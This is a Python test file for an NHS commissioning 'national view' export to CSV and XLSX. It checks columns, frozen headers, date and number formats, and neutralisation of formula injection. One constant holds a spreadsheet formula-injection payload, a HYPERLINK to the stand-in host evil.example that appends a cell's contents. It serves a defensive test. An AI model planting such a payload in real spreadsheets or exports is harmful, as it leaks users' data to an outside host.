"""The national view's export: CSV and XLSX with every column, safe against formula injection, read back as written."""

from __future__ import annotations

import csv
import io

from isap.outputs.national import COLUMNS, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ROW = {"name": "ISAP-2026-014", "title": HOSTILE, "commissioner": "QUA", "commissioner_name": "NHS Black Country ICB",
       "region": "midlands", "provider": "+44 Health", "provider_type": "NHS trust",
       "integration_model": "Partially integrated", "annual_contract_value_gbp": 95_500_000.0,
       "wpap_annual_value_gbp": 76_400_000.0, "population_registered": 412_000, "checkpoint": 2, "state": "in_review",
       "last_decision": "approved_with_conditions", "last_decision_on": "2027-01-05",
       "rating_capitalisation": "green", "rating_relationships": "red", "open_conditions": 1, "open_queries": None,
       "next_planned_checkpoint": 2, "next_planned_date": "2027-06-01", "next_planned_agreed": True,
       "slippage_working_days": 4, "late": True}


def test_the_xlsx_holds_text_as_text_with_the_header_frozen_and_widths_set():
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx([ROW])))
    ws = wb["National view"]
    assert ws.freeze_panes == "A2"
    header = [c.value for c in ws[1]]
    assert header == [h for _, h in COLUMNS]
    title = ws.cell(row=2, column=2)
    # read back exactly as typed, and a text cell, which no spreadsheet evaluates
    assert title.value == HOSTILE and title.data_type == "s"
    assert ws.cell(row=2, column=6).value == "+44 Health" and ws.cell(row=2, column=6).data_type == "s"
    values = dict(zip(header, [c.value for c in ws[2]]))
    assert values["Region"] == "Midlands" and values["State"] == "In review"
    assert values["Last decision"] == "Approved with conditions" and values["Late"] == "Late"
    assert values["Annual contract value (£)"] == 95_500_000 and values["Registered population"] == 412_000
    assert values["Open queries"] is None
    assert ws.column_dimensions["B"].width >= len(HOSTILE) and ws.column_dimensions["L"].width >= len("Checkpoint")
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_the_csv_neutralises_text_that_starts_like_a_formula():
    rows = list(csv.reader(io.StringIO(to_csv([ROW]))))
    assert rows[0] == [h for _, h in COLUMNS]
    line = dict(zip(rows[0], rows[1]))
    assert line["Title"] == "'" + HOSTILE and line["Provider"] == "'+44 Health"
    assert line["Slippage (working days)"] == "4" and line["Open queries"] == ""


def test_the_xlsx_holds_dates_as_dates_and_money_as_numbers_shown_with_separators():
    """A spreadsheet sorts and filters dates only when they are date cells, not text that looks like one."""
    import datetime as dt

    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(to_xlsx([ROW])))["National view"]
    header = [c.value for c in ws[1]]
    cells = dict(zip(header, ws[2]))
    for heading, day in (("Decided on", dt.date(2027, 1, 5)), ("Next planned submission", dt.date(2027, 6, 1))):
        cell = cells[heading]
        assert cell.is_date and cell.value.date() == day, heading
        assert cell.number_format == "d mmm yyyy"
    assert cells["Annual contract value (£)"].number_format == "#,##0"
    assert cells["Registered population"].number_format == "#,##0"
